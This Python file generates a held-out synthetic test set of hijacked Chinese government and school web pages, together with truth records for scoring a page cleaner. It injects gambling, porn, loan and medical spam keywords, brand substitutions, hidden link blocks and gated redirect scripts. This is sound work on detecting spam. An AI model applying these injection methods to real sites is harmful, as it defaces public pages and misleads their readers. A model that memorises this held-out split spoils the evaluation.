    ("Z1", "L_court", [], None, None),
    ("Z3", "L_station", [], None, None),
    ("Z4", "L_school", [], None, None),
    ("Z2", "L_fund", [], None, None),
]
HIJACK_N = 28


GOV_FOR = {"flood": ["潞江镇人民政府", "青溪县水利局", "柘城县应急管理局"], "food": ["白沙区市场监督管理局"],
           "irrig": ["龙门县农业农村局", "青溪县水利局"], "census": ["平川市统计局"], "vaccine": ["东屿区卫生健康委员会"],
           "wage": ["嘉陵区人力资源和社会保障局"], "river": ["青溪县水利局", "潞江镇人民政府"]}


def org_for(art, r):
    if art in ("exam", "job", "labfire", "library", "teacher", "en"):
        return r.choice(SCHOOLS[:6])
    if art in ("trad", "L_school"):
        return r.choice(SCHOOLS[6:])
    if art == "L_court":
        return r.choice(["青溪县人民法院", "柘城县人民法院", "龙门县人民法院"])
    if art == "L_fund":
        return r.choice(["平川市财政局", "嘉陵区民政局", "白沙区体育局"])
    if art == "L_station":
        return r.choice(["柘城县体育局", "龙门县文化广电旅游体育局"])
    return r.choice(GOV_FOR[art])


EMOJI_RE = re.compile("[\U0001F000-\U0001FAFF\u2600-\u27BF\uFE0F\u200D]")


def clean(s, spam):
    for x in sorted(spam, key=len, reverse=True):
        s = s.replace(x, "")
    s = EMOJI_RE.sub("", s)
    s = s.replace(",:", ",").replace("日,:", "日,")
    return s.strip().lstrip(":").rstrip("|").strip()


def build_case(i, plan, r):
    tpl, art, forms, script, hidden = plan
    hijacked = i < HIJACK_N
    legit = art.startswith("L_") and not hijacked
    org = org_for(art, r)
    y, m, d = ymd(r)
    p = person(r)
    title, paras = ARTICLES[art](org, m, d, p)
    lang = "en" if art == "en" else "zh"
    author = person(r) if tpl in ("Z1", "Z2", "Z4", "Z5") and r.random() < 0.6 else None
    depts = DEPTS[:4] if org in SCHOOLS else ["办公室", "综合科", "政务公开办", "宣传科"]
    source = r.choice(depts) if tpl != "Z4" or r.random() < 0.5 else None
    if lang == "en":
        source = None
    brand, shape = BRANDS[i % len(BRANDS)]
    host = HOSTS[i % len(HOSTS)]
    spam, inj, modelled = [], [], []
    shown = list(paras)
    h1 = title
    head_title = title + ("_" + org if tpl in ("Z1", "Z3") else "")
    pre_header = after_article = footer_extra = body_end = head_extra = ""
    author_shown, source_shown = author, source
    sign_org = org
    crumb = ["首页", "新闻中心" if tpl != "Z3" else "政府信息公开", "正文"]
    if lang == "en":
        crumb = ["Home", "News", "Article"]
    for f in forms:
        modelled.append(f"{f}: {FORMS[f]}")
        if f == "porn_line_before_header":
            kws = r.sample(PORN, 4)
            line = r.choice(["_", ",", "|"]).join(kws)
            pre_header += f'\n<div class="kw-top">{E(line)}</div>'
            head_title = line
            spam += kws
            inj += ["porn_keyword_line_before_header", "keyword_line_as_title"]
        elif f == "porn_line_with_random_id_tags":
            kws = r.sample(PORN, 3)
            rid = "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(5))
            pre_header += f'\n<p class="tkw">{E("|".join(kws))}</p>\n<bdo id="{rid}"></bdo><dfn id="{rid}"></dfn><sub id="{rid}"></sub>'
            spam += kws
            inj += ["porn_keyword_line_before_header", "random_id_empty_tags"]
        elif f == "porn_line_after_credit":
            kws = r.sample(PORN, 4)
            after_article += f'\n<div class="credit">审核:{E(person(r))}  编辑:{E(person(r))}</div>\n<div class="kwb">{E(",".join(kws))}</div>'
            spam += kws
            inj += ["porn_keyword_line_after_article"]
        elif f == "porn_headline_pipe_segment":
            kw = r.choice(PORN)
            h1 = title + "|" + kw
            head_title = h1
            spam.append(kw)
            inj += ["porn_keyword_headline_segment", "porn_keyword_title_segment"]
        elif f == "brand_infix_emoji":
            short = brand[:2]
            key = "学院" if "学院" in "".join(shown) else org[-2:]
            shown = [x.replace(key, short + key) for x in shown]
            em = EMOJI[i % len(EMOJI):] + EMOJI[:i % len(EMOJI)]
            shown = [x.replace(",", "," + em[k % len(em)], 1).replace("。", em[(k + 3) % len(em)] + "。", 1) for k, x in enumerate(shown)]
            h1 = title.replace(key, short + key)
            head_title = h1
            spam.append(short)
            inj += ["brand_infix_before_keyword", "emoji_noise_in_text"]
        elif f == "brand_for_name_emoji":
            shown = [x.replace(org, brand) for x in shown]
            em = EMOJI[(i + 5) % len(EMOJI):] + EMOJI[:(i + 5) % len(EMOJI)]
            shown = [x.replace(",", em[k % len(em)] + ",", 1) for k, x in enumerate(shown)]
            h1 = title.replace(org, brand)
            head_title = h1
            spam.append(brand)
            inj += ["body_brand_substitution", "headline_brand_substitution", "emoji_noise_in_text"]
        elif f == "brand_mid_sentence":
            k = 1 if len(shown) > 2 else 0
            words = shown[k].split(",")
            words[1] = brand + words[1]
            shown[k] = ",".join(words)
            spam.append(brand)
            inj += ["brand_phrase_inserted_mid_sentence"]
        elif f == "title_brand_variants_only":
            vs = [brand, brand[:2] + "官方网站", brand[:2] + "app下载入口"]
            head_title = "|".join(vs)
            shown = [x.replace(org, vs[0]) for x in shown]
            spam += vs
            inj += ["title_brand_variants_only", "body_brand_substitution"]
        elif f == "headline_brand_colon_prefix":
            h1 = brand + ":" + title.replace(org, "", 1)
            head_title = brand
            shown[0] = shown[0].replace(org, brand + ":", 1)
            spam.append(brand)
            inj += ["headline_brand_prefix", "body_brand_substitution", "title_brand_only"]
        elif f == "spliced_source_brand":
            source_shown = brand
            source = None
            spam.append(brand)
            inj += ["spliced_source_brand"]
        elif f == "keyword_glued_paragraph_end":
            kw = "2025" + r.choice(["新澳门", "香港", "澳门"]) + "今晚开奖号码查询"
            shown[1] = shown[1].rstrip("。") + "。" + kw
            spam.append(kw)
            inj += ["lottery_keyword_glued_paragraph_end"]
        elif f == "keyword_title_glued":
            kw = "《" + r.choice(["世界杯让球盘口怎么看", "足球竞彩比分预测", "百家乐必胜技巧"]) + "》"
            shown[-1] = shown[-1] + kw
            spam.append(kw)
            inj += ["keyword_title_glued_after_paragraph"]
        elif f == "signature_attachment_brand":
            sign_org = brand
            shown = shown + [f"附件:{brand}数据质量核查样本清单.xlsx"]
            spam.append(brand)
            inj += ["signature_brand_substitution", "attachment_line_brand"]
        elif f == "medical_line_after_article":
            kws = r.sample(MED, 3)
            after_article += f'\n<p class="rel">{E(" ".join(kws))}</p>'
            spam += kws
            inj += ["medical_keyword_line_after_article"]
        elif f == "loan_line_before_header":
            kws = r.sample(LOAN, 3)
            pre_header += f'\n<div class="tz">{E("_".join(kws))}</div>'
            spam += kws
            inj += ["loan_keyword_line_before_header"]
    if script:
        if script == "rot13":
            code, name = s_rot13_referrer(host)
        elif script == "dataset":
            code, name = s_dataset_join(host)
        elif script == "ua":
            code, name = s_ua_decoy(brand, host)
            spam.append(brand) if brand not in spam else None
        elif script == "cookie":
            code, name = s_cookie_counter(host)
        else:
            code, name = s_seoref_onclick(host)
            shown[-1] = shown[-1]
            after_article += '\n<div class="pics"><a href="javascript:void(0)" onclick="kwgo()"><img src="/upload/pic1.jpg" alt=""></a></div>'
        if script in ("rot13", "cookie"):
            head_extra += "\n" + code
        else:
            body_end += "\n" + code
        spam.append(host)
        inj.append(name)
        modelled.append({"rot13": "script_referrer_gate: rc7-019", "dataset": "script_device_gate: rc7-019",
                         "ua": "script_ua_gate: rc7-020, rc7-018", "cookie": "script_counter_loader: rc7-018",
                         "seoref": "script_seoref_function: rc7-020"}[script])
    if hidden:
        hb = {"maxheight": h_maxheight, "stylesheet": h_stylesheet_id, "font0": h_collapse_row, "svg": h_noembed,
              "select": h_select_hidden}[hidden](r, brand, host)
        if hidden == "stylesheet":
            style, block, name = hb
            idv = style.split("#")[1].split("{")[0]
            head_extra += "\n" + style
            footer_extra += block.replace("fl_XXX", idv)
        else:
            block, name = hb
            footer_extra += block
        if brand not in spam:
            spam.append(brand)
        if host not in spam:
            spam.append(host)
        inj.append(name)
        modelled.append("hidden link block: rc7-033 (hidden link-farm block of gambling anchors in the page chrome) — hiding method new")
    if not hijacked:
        spam, inj, modelled = [], [], []
    # truth: what the page shows in its article minus spam strings and emoji (a replaced name cannot be restored)
    truth_text = "\n".join(t for t in (clean(x, spam) for x in shown) if t)
    true_title = clean(h1, spam)
    c = dict(org=org, date=cn(y, m, d), author_shown=author_shown, source_shown=source_shown, crumb=crumb,
             paras_html=[E(x) for x in shown], h1=h1, head_title=head_title, desc=paras[0][:60], pre_header=pre_header,
             after_article=after_article, footer_extra=footer_extra, body_end=body_end, head_extra=head_extra,
             index_no=f"{r.randint(11000000, 11999999)}/{y}-{r.randint(10, 999):05d}", lang=lang,
             lang_attr="en" if lang == "en" else "zh-CN", sign_org=sign_org)
    page = TEMPLATES[tpl](c)
    truth_author = author_shown if tpl != "Z3" else None
    if tpl == "Z6":
        truth_author = None
    rec = {"id": f"syn7-{i + 1:03d}", "url": None, "encoding": ENCODING[tpl], "lang": lang, "title": true_title,
           "date": cn(y, m, d), "source": source if source_shown == source else None, "author": truth_author,
           "text": truth_text, "hijacked": hijacked, "injections": inj, "spam_strings": spam, "legit": legit,
           "origin": f"synthetic-generator-v7 (make_set.py, seed {SEED})", "kind": f"synthetic-{tpl}", "site": org,
           "template": tpl, "brand_shape": shape if hijacked and any(b in spam for b in [brand]) else None,
           "modelled_on": modelled}
    return page, rec


README = """# synthetic-v7 (held-out split v7)

40 synthetic gov/edu pages written by `../synthetic-generator-v7/make_set.py` (seed 20261207): 28 hijacked, 12 clean
of which 4 are legit lottery/gambling-regulation articles (must not be flagged, must keep every sentence). Templates
Z1-Z6 (VSB/博达 news, WebPlus/Sudy, GB18030-declared 信息公开 with a <dl> metadata grid, AMP mobile page with JSON-LD,
Hugo-like static department site, MS-Word 'filtered' export notice). Encodings: Z3 gb18030, the rest utf-8.
Truth format as real-cases-v7 plus `brand_shape` and `modelled_on`. Truth = what the page shows in its article minus the spam
strings and emoji: where a brand replaced the organisation's name the truth drops it (the name cannot be restored from
the page); where a brand or keyword was infixed, inserted or glued, the truth is the article without it. Script-only hijacks list the spam host (not literal in the HTML when encoded) as a
spam string. Z3 and Z6 pages show no author (author null). Made by the keeper of held-out v7, who did not read the
cleaner. Never open while tuning.
"""


def main():
    r = random.Random(SEED)
    (OUT / "html").mkdir(parents=True, exist_ok=True)
    recs = []
    for i, plan in enumerate(PLAN):
        page, rec = build_case(i, plan, r)
        enc = rec["encoding"]
        (OUT / "html" / f"{rec['id']}.html").write_bytes(page.encode(enc))
        recs.append(rec)
    with open(OUT / "truth.jsonl", "w", encoding="utf-8") as f:
        for rec in recs:
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")
    (OUT / "README.md").write_text(README, encoding="utf-8")
    print(len(recs), sum(x["hijacked"] for x in recs), sum(x["legit"] for x in recs))


if __name__ == "__main__":
    main()
